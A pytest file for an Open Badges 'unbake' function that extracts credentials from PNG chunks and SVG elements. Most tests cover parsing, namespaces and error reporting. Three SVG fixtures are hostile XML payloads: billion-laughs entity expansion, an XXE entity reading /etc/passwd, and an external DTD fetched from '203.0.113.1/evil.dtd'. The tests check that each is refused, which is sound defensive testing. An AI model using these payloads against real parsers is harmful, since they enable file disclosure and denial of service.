"""Unbaking: the tolerant cases openbadges-bakery gets wrong, hostile SVG, and refused formats."""

from __future__ import annotations

import io
import zlib

import pytest
from PIL import Image

from designer.base.errors import MedbadgeError, UnsafeSVGError
from designer.openbadges import bake_png, unbake, unbake_all
from designer.base.png import PNG_SIGNATURE, PNGError, encode_chunk, iter_chunks

from .conftest import assertion_json

JWS = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJ4In0.c2lnbmF0dXJl"


def with_chunks(png: bytes, *extra: bytes) -> bytes:
    """``png`` with raw chunks inserted after IHDR."""
    ihdr = next(iter_chunks(png))
    return PNG_SIGNATURE + png[ihdr.start:ihdr.end] + b"".join(extra) + png[ihdr.end:]


def test_itxt_language_tag_and_translated_keyword_do_not_leak(png):
    data = with_chunks(png, encode_chunk(b"iTXt", b"openbadges\x00\x00\x00en\x00Open Badges\x00" + JWS.encode()))
    payload = unbake(data)
    assert payload.text == JWS and payload.kind == "jws"
    assert any("language" in note for note in payload.notes)


def test_compressed_itxt(png):
    data = with_chunks(png, encode_chunk(b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(JWS.encode())))
    payload = unbake(data)
    assert (payload.version, payload.kind, payload.text) == ("3.0", "jws", JWS)


def test_legacy_text_url(png):
    data = with_chunks(png, encode_chunk(b"tEXt", b"openbadges\x00https://example.org/assertions/1"))
    payload = unbake(data)
    assert (payload.kind, payload.text, payload.found_in) == ("url", "https://example.org/assertions/1", "tEXt")


def test_ztxt(png):
    data = with_chunks(png, encode_chunk(b"zTXt", b"openbadges\x00\x00" + zlib.compress(assertion_json().encode())))
    assert unbake(data).kind == "json"


def test_first_matching_chunk_wins(png):
    data = with_chunks(png, encode_chunk(b"iTXt", b"openbadges\x00\x00\x00\x00\x00" + JWS.encode()),
                       encode_chunk(b"iTXt", b"openbadges\x00\x00\x00\x00\x00" + assertion_json().encode()))
    payload = unbake(data)
    assert payload.text == JWS and payload.offset == 33
    (everything,) = unbake_all(data)  # reads the whole file, so it can tell about the extra chunk
    assert everything.text == JWS and any("ignored" in note for note in everything.notes)


def test_other_text_chunks_are_ignored(png):
    data = with_chunks(png, encode_chunk(b"tEXt", b"Software\x00medbadge"), encode_chunk(b"iTXt", b"openbadgesX\x00\x00\x00\x00\x00x"))
    with pytest.raises(MedbadgeError, match="no Open Badges data"):
        unbake(data)


def test_wrong_version_requested(png):
    with pytest.raises(MedbadgeError, match="carries OB 2.0"):
        unbake(bake_png(png, assertion_json(), "2.0"), version="3.0")


@pytest.mark.parametrize("prefix", ["ob", "x1", "openbadges"])
def test_any_svg_prefix(prefix):
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:{prefix}="http://openbadges.org">'
           f'<{prefix}:assertion verify="{JWS}"/><rect/></svg>').encode()
    assert unbake(svg).text == JWS


def test_default_namespace_element():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><credential xmlns="https://purl.imsglobal.org/ob/v3p0" verify="{JWS}"/></svg>'.encode()
    payload = unbake(svg)
    assert payload.version == "3.0" and payload.text == JWS


def test_wrong_namespace_with_right_prefix_is_not_badge_data():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://example.org/other"><openbadges:assertion verify="{JWS}"/></svg>'.encode()
    with pytest.raises(MedbadgeError, match="no Open Badges data"):
        unbake(svg)


def test_xml_declaration_comments_and_long_preamble():
    preamble = b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- ' + b"Generator: a long comment " * 40 + b"-->\n"
    preamble += b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    svg = preamble + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="https://example.org/a/1"><![CDATA[  {"id": "https://example.org/a/1"}\n ]]></openbadges:assertion></svg>'
    assert len(preamble) > 256
    payload = unbake(svg)
    assert payload.kind == "json" and payload.text == '{"id": "https://example.org/a/1"}'


def test_hosted_url_only():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="https://example.org/a/1"/></svg>'
    assert unbake(svg).kind == "url"


def test_spec_variant_namespace_is_tolerated():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/spec/ob/v3p0"><openbadges:credential verify="{JWS}"/></svg>'.encode()
    payload = unbake(svg)
    assert payload.version == "3.0" and any("namespace" in note for note in payload.notes)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text></svg>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""

EXTERNAL_PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, XXE, EXTERNAL_PARAM], ids=["billion-laughs", "xxe", "external-dtd"])
def test_hostile_svg_is_refused(hostile):
    with pytest.raises(UnsafeSVGError):
        unbake(hostile)


def test_malformed_svg_names_the_place():
    with pytest.raises(MedbadgeError, match="line 2"):
        unbake(b'<svg xmlns="http://www.w3.org/2000/svg">\n<g></svg>')


def _image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 0, 0)).save(buffer, fmt)
    return buffer.getvalue()


@pytest.mark.parametrize("fmt, name", [("JPEG", "JPEG"), ("GIF", "GIF"), ("WEBP", "WebP"), ("BMP", "BMP"), ("TIFF", "TIFF")])
def test_other_formats_are_refused_with_a_conversion_hint(fmt, name):
    with pytest.raises(MedbadgeError) as caught:
        unbake(_image(fmt))
    assert not isinstance(caught.value, (PNGError, UnsafeSVGError))
    assert name in caught.value.message and caught.value.hint and "png" in caught.value.hint.lower()


def test_truncated_png_reports_offset(png):
    baked = bake_png(png, assertion_json(), "2.0")
    with pytest.raises(PNGError) as caught:
        unbake(baked[:60])
    assert caught.value.offset == 33  # the iTXt chunk that runs past the end


def test_crc_mismatch_reports_offset(png):
    baked = bake_png(png, assertion_json(), "2.0")
    damaged = baked.replace(b"assertions/123", b"assertions/999")
    with pytest.raises(PNGError, match="CRC") as caught:
        unbake(damaged)
    assert "byte 33" in str(caught.value)


def test_damaged_signature_is_explained(png):
    with pytest.raises(PNGError, match="line endings"):
        unbake(png.replace(b"\r\n", b"\n", 1))


def test_unbake_all_on_unbaked_image(png):
    assert unbake_all(png) == ()
